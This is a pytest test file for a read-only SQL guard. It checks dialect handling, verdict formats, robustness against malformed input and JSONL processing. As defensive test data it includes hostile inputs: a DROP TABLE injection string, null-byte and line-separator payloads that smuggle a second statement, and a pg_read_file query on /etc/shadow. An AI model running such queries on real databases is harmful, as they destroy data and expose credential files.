def test_unknown_dialect_lists_valid_dialects():
    verdict = check_sql("SELECT 1", "postgresql")
    assert verdict.kind == "unknown_dialect"
    assert "Did you mean 'postgres'?" in verdict.reason
    assert all(d in verdict.reason for d in ("duckdb", "mysql", "sqlite", "tsql"))
    with pytest.raises(UnsafeSQL, match="unknown SQL dialect"):
        assert_read_only("SELECT 1", "nope")
    assert check_sql("SELECT 1", " DuckDB ").allowed
    assert "duckdb" in VALID_DIALECTS and "" not in VALID_DIALECTS


def test_verdict_to_dict_shapes():
    assert Verdict(True, None, "select").to_dict() == {"allowed": True}
    assert check_sql("DROP TABLE t").to_dict() == {
        "allowed": False,
        "reason": "DROP is not allowed; only read queries (SELECT, WITH ... SELECT, VALUES) are allowed",
        "kind": "drop",
    }
    assert check_sql("SELECT 1").kind == "select"
    assert check_sql("SELECT 1 UNION SELECT 2").kind == "union"


ODD_INPUTS = [
    "\x00",
    "SELECT 1\x00; DROP TABLE t",
    "SELECT 1\x1a",
    "(" * 5000,
    "SELECT " + "(" * 5000 + "1" + ")" * 5000,
    "SELECT " + "-" * 5000,
    "SELECT " + " + ".join(["1"] * 3000),
    "SELECT '\ud800'",
    "SELECT 1 FROM \udcff",
    "SELECT 'é𝄞' AS ü, 1 AS \"日本\"",
    "ＳＥＬＥＣＴ １",
    "SELECT '",
    'SELECT "',
    "SELECT /* unterminated",
    "SELECT $$ unterminated",
    "SELECT 1 /*",
    "*/ SELECT 1",
    "SELECT * FROM",
    ")))",
    "'; DROP TABLE t; --",
    "\ufeffSELECT 1",
    "SELECT 1 \u2028; DROP TABLE t",
    "x" * 200_000,
    "SELECT 1" + ";" * 10_000,
    b"SELECT 1",
    None,
    42,
]


@pytest.mark.parametrize("sql", ODD_INPUTS, ids=range(len(ODD_INPUTS)))
@pytest.mark.parametrize("dialect", ["duckdb", "postgres", "mysql", "tsql", "sqlite", 7])
def test_check_sql_never_raises(sql, dialect):
    verdict = check_sql(sql, dialect)
    assert isinstance(verdict, Verdict)
    if not isinstance(sql, str) or "\x00" in sql or "(" * 200 in sql or "DROP" in sql:
        assert not verdict.allowed
    if not verdict.allowed:
        assert verdict.reason and verdict.kind
    json.dumps(verdict.to_dict())


# ----------------------------------------------------------------------------- guard_jsonl


def test_guard_jsonl_yields_one_verdict_per_line_in_order():
    lines = [
        json.dumps({"sql": "SELECT 1"}),
        json.dumps({"sql": "SELECT pg_read_file('/etc/shadow')", "dialect": "postgres"}),
        "{not json",
        "",
        json.dumps(["SELECT 1"]),
        json.dumps({"sql": 5}),
        json.dumps({"sql": "SELECT 1", "dialect": "nope"}),
        json.dumps({"sql": "SELECT @@hostname", "dialect": "mysql"}) + "\n",
    ]
    out = list(guard_jsonl(lines))
    assert len(out) == 7  # the blank line is skipped
    assert out[0] == {"allowed": True}
    assert out[1]["allowed"] is False and out[1]["kind"] == "function:pg_read_file"
    assert "/etc/shadow" not in out[1]["reason"]
    assert out[2]["allowed"] is False and out[2]["reason"].startswith("line 3: invalid JSON")
    assert out[3]["reason"].startswith("line 5: ") and out[3]["kind"] == "invalid_input"
    assert out[4]["reason"].startswith("line 6: ")
    assert out[5]["kind"] == "unknown_dialect"
    assert out[6]["kind"] == "system_variable"
    assert all(set(d) <= {"allowed", "reason", "kind"} for d in out)


def test_guard_jsonl_is_lazy_and_survives_hostile_lines():
    lines = iter(["[" * 100_000, json.dumps({"sql": "SELECT 1"})])
    gen = guard_jsonl(lines)
    first = next(gen)
    assert first["allowed"] is False and first["reason"].startswith("line 1: invalid JSON")
    assert next(gen) == {"allowed": True}
